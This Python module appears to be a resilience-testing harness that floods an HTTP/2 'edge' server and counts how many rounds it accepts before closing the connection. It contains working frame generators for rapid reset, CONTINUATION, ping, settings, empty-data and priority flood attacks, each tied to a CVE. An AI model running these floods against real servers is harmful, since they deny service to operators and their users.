"""Floods of HTTP/2 frames over one connection, each a generator of rounds."""

import contextlib
import itertools
import socket
import ssl
import struct
from collections.abc import Callable, Iterator

from h2.connection import H2Connection
from hyperframe.frame import ContinuationFrame, DataFrame, Frame, HeadersFrame, PingFrame, PriorityFrame, RstStreamFrame, SettingsFrame

Rounds = Iterator[list[Frame]]


class Flood:
    """An HTTP/2 connection that counts what it may send before the edge closes it."""

    def __init__(self, connection: ssl.SSLSocket, *, path: str = "/web") -> None:
        self.connection = connection
        self._path = path
        self._state = H2Connection()
        self._state.initiate_connection()
        connection.sendall(self._state.data_to_send())

    def head(self, stream: int, *, ended: bool = True, headers_ended: bool = True) -> HeadersFrame:
        fields = [(":method", "GET" if ended else "POST"), (":path", self._path), (":scheme", "https"), (":authority", "edge")]
        frame = HeadersFrame(stream, data=self._state.encoder.encode(fields))
        if headers_ended:
            frame.flags.add("END_HEADERS")
        if ended:
            frame.flags.add("END_STREAM")
        return frame

    def send_unread(self, rounds: Rounds, most: int) -> int | None:
        """As `send`, by a client that reads no answers: those of pings and settings then pile up in the edge."""
        self.connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        for count, batch in enumerate(itertools.islice(rounds, most)):
            try:
                self.connection.sendall(b"".join(frame.serialize() for frame in batch))
            except OSError:
                return count
        return None

    def send(self, rounds: Rounds, most: int) -> int | None:
        """How many rounds the edge took before it closed the connection; None if it took `most`."""
        for count, batch in enumerate(itertools.islice(rounds, most)):
            try:
                self.connection.sendall(b"".join(frame.serialize() for frame in batch))
                self.connection.settimeout(0 if count % 50 else 0.02)
                with contextlib.suppress(TimeoutError, ssl.SSLWantReadError):
                    if not self.connection.recv(65536):
                        return count
                self.connection.settimeout(5)
            except OSError:
                return count
        self.connection.settimeout(5)
        try:
            while self.connection.recv(65536):
                pass
        except TimeoutError:
            return None
        except OSError:
            pass
        return most


def resets(flood: Flood) -> Rounds:
    """Rapid reset (CVE-2023-44487)."""
    for stream in range(1, 1 << 20, 2):
        yield [flood.head(stream, ended=False), RstStreamFrame(stream, error_code=8)]


def continuations(flood: Flood) -> Rounds:
    """CONTINUATION flood (CVE-2024-30255)."""
    yield [flood.head(1, headers_ended=False)]
    while True:
        yield [ContinuationFrame(1, data=struct.pack("!BB", 0x00, 0x03) + b"x-a\x01b") for _ in range(20)]


def pings(flood: Flood) -> Rounds:
    """CVE-2019-9512."""
    while True:
        yield [PingFrame(0, opaque_data=b"12345678") for _ in range(50)]


def settings(flood: Flood) -> Rounds:
    """CVE-2019-9515."""
    while True:
        yield [SettingsFrame(0, settings={4: 65535}) for _ in range(50)]


def empty_data(flood: Flood) -> Rounds:
    """CVE-2019-9518."""
    yield [flood.head(1, ended=False)]
    while True:
        yield [DataFrame(1, data=b"") for _ in range(20)]


def priorities(flood: Flood) -> Rounds:
    """CVE-2019-9513."""
    while True:
        yield [PriorityFrame(1, depends_on=0, stream_weight=1, exclusive=False) for _ in range(50)]


ALL: tuple[Callable[[Flood], Rounds], ...] = (resets, continuations, pings, settings, empty_data, priorities)
UNREAD = (pings, settings)
"""These do no harm to who reads the answers."""
